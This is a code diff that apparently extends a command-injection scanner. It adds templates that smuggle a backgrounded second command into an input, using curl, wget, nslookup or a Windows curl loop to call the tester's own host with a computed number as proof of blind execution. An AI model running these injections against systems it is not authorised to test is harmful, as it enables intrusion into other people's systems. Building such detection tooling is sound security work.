@@ -48,6 +48,16 @@ FOR_NUMBERS = (SEQUENCE, SUBSTITUTED)
 FOR_COMMANDS = (SEQUENCE, PIPE, SUBSTITUTED, LINE, AND, BACKTICKS)
 FOR_WINDOWS = (WINDOWS, SEQUENCE)
 
+# Asks for an address of ours, with the product of two numbers behind it, which a shell alone computes. In the background,
+# so that nobody waits for it; no value of the target is part of what is asked for.
+CALLING = Way("a second command that asks for our address", _in_quotes(";{call};"))
+CALLING_WINDOWS = Way(
+    "a second command that asks for our address (Windows)", '{value}&{call}&rem "&{call}&rem ', windows=True
+)
+_FETCH = "(curl -sm5 {url}/$(({task}))||wget -qT5 -O- {url}/$(({task})){look_up})>/dev/null 2>&1&"
+_LOOK_UP = "||nslookup $(({task})).{host}"
+_FETCH_WINDOWS = "for /f %i in ('set /a {task}') do curl -sm5 {url}/%i >nul"
+
 # Look like the command that waits, and are none.
 LOOKALIKES = ("slepe", "sleap", "slleep")
 
@@ -65,6 +75,15 @@ def fill(way: Way, value: str, numbers: Numbers, wait: int, *, tame: bool = Fals
         computing = f"echo{way.blank}{numbers.before}{shown}{numbers.after}"
         waiting = f"{lookalike or 'sleep'}{way.blank}{wait}"
     return way.pattern.replace("{print}", computing).replace("{wait}", waiting).replace("{value}", value)
+
+
+def fill_call(way: Way, value: str, left: int, right: int, url: str, host: str = "") -> str:
+    """The payload of a way that asks for an address of ours. host: the address as a name, where there is a zone."""
+    task = f"{left}*{right}"
+    look_up = _LOOK_UP.format(task=task, host=host) if host else ""
+    call = (_FETCH_WINDOWS if way.windows else _FETCH).format(url=url, task=task, look_up=look_up)
+    # What ends with an ampersand is ended by it: a semicolon behind it would be an error.
+    return way.pattern.replace("{call};", "{call} ").replace("{call}", call).replace("{value}", value)
 
 
 def expected(way: Way, numbers: Numbers) -> str:
